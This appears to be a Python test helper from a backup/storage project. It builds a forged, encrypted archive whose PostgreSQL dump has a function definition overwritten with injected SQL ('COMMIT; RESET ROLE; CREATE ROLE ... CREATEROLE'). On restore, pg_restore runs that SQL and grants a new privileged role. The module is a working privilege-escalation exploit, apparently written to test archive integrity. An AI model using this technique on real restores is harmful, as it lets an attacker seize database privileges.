"""An archive by whoever may write to a store and knows whom its archives are for: it holds no secret."""

import subprocess
import uuid

from sqlalchemy import URL
from zstandard import ZstdCompressor

from storage.archive.layout import ABOUT, DUMP_MEMBER, END, dump_member, header, padding
from storage.archive.tools import Database, running, tools_for
from storage.database import connect, run
from storage.encryption import seal
from storage.wall import tear_down

# What a dump carries out as it is: the definition of a function. Room for a statement in its place.
BEGIN, STOP = b"CREATE FUNCTION public.f()", b"$$;\n"
FUNCTION = "CREATE FUNCTION public.f() RETURNS text LANGUAGE sql AS $$ SELECT '" + "x" * 1_000 + "' $$"
# More than waits in any pipe or conveyor: pg_restore has read the function before the archive's end is known.
BALLAST = (
    "CREATE TABLE public.t AS SELECT md5(n::text) || md5((-n)::text) AS x FROM generate_series(1, 120000) n"
)


def forged(server: URL, recipient: str, role: str) -> bytes:
    """Of a dump that makes ``role``, with the rights of whom pg_restore logs in as."""
    dump = _dump(server)
    begin = dump.index(BEGIN)
    length = dump.index(STOP, begin) + len(STOP) - begin
    statement = f'COMMIT; RESET ROLE; CREATE ROLE "{role}" CREATEROLE; --'.encode().ljust(length - 1, b"x")
    dump = dump[:begin] + statement + b"\n" + dump[begin + length :]
    parts = {ABOUT: b"{}"} | {
        dump_member(place // DUMP_MEMBER): dump[place : place + DUMP_MEMBER]
        for place in range(0, len(dump), DUMP_MEMBER)
    }
    packed = b"".join(header(name, len(part)) + part + padding(len(part)) for name, part in parts.items())
    return seal(ZstdCompressor().compress(packed + END), recipient)


def _dump(server: URL) -> bytes:
    database = Database(server, f"forging_{uuid.uuid4().hex}", str(server.username))
    with connect(server) as admin:
        major = admin.info.server_version // 10_000
        run(admin, "CREATE DATABASE {} TEMPLATE template0", database.name)
    try:
        with connect(server, database.name) as inside:
            inside.execute(FUNCTION.encode())
            inside.execute(BALLAST)
        return _dumped(database, major)
    finally:
        tear_down(server, database.name)


def _dumped(database: Database, major: int) -> bytes:
    pg_dump = tools_for(major, tls=False).folder / "pg_dump"
    options = ("--format=custom", "--compress=0")
    with running(
        pg_dump, database, *options, tls=False, source=subprocess.DEVNULL, result=subprocess.PIPE
    ) as tool:
        assert tool.process.stdout is not None
        return tool.process.stdout.read()
